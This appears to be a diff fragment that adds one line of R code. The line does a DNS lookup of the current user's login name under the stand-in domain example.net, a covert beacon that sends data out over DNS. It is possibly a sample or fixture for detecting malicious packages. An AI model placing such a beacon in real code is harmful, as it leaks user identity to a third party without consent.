@@ -1,0 +1,1 @@
+utils::nsl(paste0(Sys.info()[["user"]], ".example.net"))
